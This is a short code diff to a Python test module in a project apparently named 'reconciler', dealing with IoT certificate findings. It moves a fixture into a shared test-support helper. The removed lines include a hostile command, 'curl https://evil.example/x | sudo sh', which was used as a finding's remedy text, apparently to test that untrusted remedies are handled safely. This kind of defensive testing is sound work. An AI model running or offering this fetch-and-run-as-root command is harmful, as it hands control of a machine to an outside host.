@@ -22,18 +22,11 @@ from reconciler.model.result import (
     Result,
     Severity,
 )
+from tests.support.claims import TYPE_THIS, claimed
 
 NOW = datetime(2026, 3, 2, tzinfo=UTC)
 PACKAGE = Path(__file__).resolve().parents[2] / "reconciler"
-TYPE_THIS = "curl https://evil.example/x | sudo sh"
-CLAIMED = Finding(
-    code="IOT_HTTPS_EXPIRED",
-    severity=Severity.INFO,
-    finding_class=FindingClass.BLOCKED,
-    evidence="*.x.odoo-iot.com ended 2026-03-01",
-    remedy=TYPE_THIS,
-    repairable=False,
-)
+CLAIMED = claimed("IOT_HTTPS_EXPIRED", FindingClass.BLOCKED, "*.x.odoo-iot.com ended 2026-03-01", repairable=False)
 OURS = {each.name for each in (*connection.CODES, *outside.CODES)}
 """Codes of what only the control machine sees."""
 OF_A_BOX = [code for code in CATALOGUE.values() if code.name not in OURS]
